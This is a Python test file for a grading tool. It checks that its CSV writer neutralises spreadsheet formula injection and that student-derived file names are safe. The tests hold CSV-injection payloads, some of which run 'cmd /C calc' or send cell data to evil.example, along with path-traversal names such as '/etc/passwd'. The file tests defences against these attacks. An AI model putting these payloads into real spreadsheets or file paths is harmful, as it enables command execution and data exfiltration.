"""Cells and names: what a spreadsheet could take for a formula, what breaks a row, what nobody sees."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rlhw.grading import tables
from rlhw.grading.names import file_name, shown

# From OWASP's page on CSV injection, and published variants: each is run by some spreadsheet when it opens the file.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example/"&A2)',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "'=1+1",
    '"=1+1',
    'a","=1+1',
    "a\n=1+1",
    "a\r\n=1+1",
    "\u2028=1+1",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def read_back(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf8"))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_a_formula_or_another_cell(tmp_path, payload):
    tables.write(tmp_path / "t.csv", ("a", "b"), [(payload, 1)])
    (_, row) = read_back(tmp_path / "t.csv")
    assert len(row) == 2
    assert row[1] == "1"
    # A spreadsheet looks at the first sign that is no space; the ' that it swallows is ours.
    assert not row[0].lstrip().startswith(FORMULA)
    assert (tmp_path / "t.csv").read_bytes().count(b"\n") == 2, "a row is a line"


def test_without_the_guard_the_payloads_are_formulas():
    bare = [payload for payload in PAYLOADS if tables.visible(payload).lstrip().startswith(FORMULA)]
    assert len(bare) >= 12


@pytest.mark.parametrize(
    "sign", ["\x1b", "\x9b", "\x07", "\u202e", "\u2066", "\u200f", "\u200b", "\ufeff", "\x7f", "\ud800"]
)
def test_what_nobody_sees_is_written_out(sign):
    seen = tables.visible(f"a{sign}b")
    assert sign not in seen
    assert seen == f"a{ascii(sign)[1:-1]}b"


@given(st.text())
def test_a_cell_reads_back_exactly(text):
    seen = tables.visible(text)
    assert tables.text_of(tables.cell(seen)) == seen
    assert not any(unicodedata.category(sign) in ("Cc", "Cf", "Cs") for sign in tables.cell(text))


@given(st.text(alphabet="'=+-@ ＝a", max_size=6))
def test_a_cell_of_quotes_and_formulas_reads_back_exactly(text):
    assert tables.text_of(tables.cell(text)) == text


def test_points_are_written_as_people_write_them(tmp_path):
    tables.write(tmp_path / "t.csv", ("a",), [(3.0,), (2.5,), (7,), (None,)])
    assert (tmp_path / "t.csv").read_text() == '"a"\n3\n2.5\n7\n""\n'


STUDENTS = st.text(min_size=1, max_size=30)


@given(st.lists(STUDENTS, unique=True, max_size=8))
def test_students_keep_apart_in_files_and_tables(students):
    assert len({file_name(student).lower() for student in students}) == len(students)
    assert len({shown(student) for student in students}) == len(students)


@given(STUDENTS)
def test_a_file_name_stays_in_its_folder_on_every_system(student):
    name = file_name(student)
    assert set(name) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_")
    assert 0 < len(name) <= 60


@pytest.mark.parametrize(
    "student", ["..", ".", "/etc/passwd", "a/../b", "CON", "nul", "com1", "a" * 500, "", " ", "a\x00b"]
)
def test_hostile_names_get_a_digest(student):
    assert file_name(student) != student
    assert "/" not in file_name(student)


def test_a_name_that_looks_like_a_digest_takes_nobodys_file():
    # "Ann" is written as ann-…; a student may call themselves just that.
    assert file_name(file_name("Ann").lower()) != file_name("Ann").lower()


def test_usual_names_are_kept():
    for student in ("s1234567", "ann", "ann-lee_2"):
        assert file_name(student) == student
    for student in ("Müller, Ann", "o'neill", "ann@uni.example", "李雷", "Mu\u0308ller"):
        assert shown(student) == student
